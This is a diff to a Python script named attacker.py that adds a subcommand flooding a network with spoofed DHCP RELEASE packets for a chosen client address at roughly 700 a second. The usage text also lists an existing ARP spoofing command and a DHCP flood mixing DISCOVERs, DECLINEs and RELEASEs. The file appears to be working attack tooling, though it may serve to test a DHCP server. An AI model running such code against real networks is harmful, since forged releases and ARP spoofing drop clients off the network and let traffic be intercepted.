@@ -5,6 +5,7 @@
                                               MAC), source, port, ciaddr, asked (50), server (54), class (60), arch (93),
                                               user (77), to (ADDRESS@MAC, else a broadcast), dport, hear (seconds)
     attacker.py IF arp ADDRESS MAC TIMES      "ADDRESS is at MAC", to everybody
+    attacker.py IF releases CHADDR SECONDS                  RELEASEs of CHADDR's, 700 a second
     attacker.py IF flood ADDRESS CHADDR SERVER@MAC SECONDS   read requests from ADDRESS, and DISCOVERs, DECLINEs and RELEASEs of
                                               CHADDR: about 300 a second
 """
@@ -100,9 +101,21 @@ def flood(address, chaddr, server, seconds):
     print(4 * n, "packets")
 
 
+# Nothing that is answered: RELEASEs alone, each 730 or so a second.
+def releases(chaddr, seconds):
+    end, n = time.time() + float(seconds), 0
+    while time.time() < end:
+        n += 1
+        udp(own, BROADCAST, ANY, "255.255.255.255", (68, 67), message(TYPES["release"], mac(chaddr), n, "10.66.0.77", b""))
+        time.sleep(0.00137)
+    print(n, "packets")
+
+
 if what == "dhcp":
     dhcp(args[0], args[1:])
 elif what == "arp":
     arp(*args)
 elif what == "flood":
     flood(*args)
+elif what == "releases":
+    releases(*args)
